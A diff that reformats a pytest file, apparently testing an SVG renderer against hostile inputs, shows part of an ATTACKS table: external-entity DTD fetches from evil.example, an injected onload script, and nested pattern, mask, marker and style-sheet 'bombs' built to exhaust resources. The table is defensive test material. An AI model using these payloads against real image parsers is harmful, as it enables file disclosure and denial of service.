@@ -73,9 +73,7 @@ ATTACKS = {
     "parameter entity": (
         b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/a.dtd"> %x;]>' + draw("")
     ),
-    "default attribute": (
-        b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + draw("")
-    ),
+    "default attribute": (b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + draw("")),
     "entity of a DTD": (
         b'<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd">' + draw("<text>&x;</text>")
     ),
@@ -113,7 +111,7 @@ ATTACKS = {
         nest('<pattern id="a{n}">{inside}</pattern>', '<rect fill="url(#a{n})"/>')
     ),
     "mask bomb": draw(
-        nest('<mask id="a{n}">{inside}</mask>', '<g style="mask: URL( \'#a{n}\' )"/>')
+        nest('<mask id="a{n}">{inside}</mask>', "<g style=\"mask: URL( '#a{n}' )\"/>")
     ),
     "marker bomb": draw(
         nest('<marker id="a{n}">{inside}</marker>', '<path marker-end="url(#a{n})"/>')
@@ -125,11 +123,13 @@ ATTACKS = {
         )
     ),
     "bomb in a style sheet": draw(
-        "<style>" + "".join(f"g > .c{n}, i{{fill:url(#a{n})}}" for n in range(1, 13)) + "</style>"
+        "<style>"
+        + "".join(f"g > .c{n}, i{{fill:url(#a{n})}}" for n in range(1, 13))
+        + "</style>"
         + nest('<pattern id="a{n}">{inside}</pattern>', '<rect class="x c{n}"/>')
     ),
     "many uses of much": draw(f'<g id="a">{"<rect/>" * 1_000}</g>' + '<use href="#a"/>' * 101),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("name", ATTACKS)
@@ -166,7 +166,7 @@ DRAWINGS = {
     "use of itself": draw('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
     "use of nothing": draw('<use href="#a"/><use href="#"/><use href=""/>' * 9),
     "byte-order mark": b"\xef\xbb\xbf" + draw("<text>\xc3\xa6</text>"),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("name", DRAWINGS)
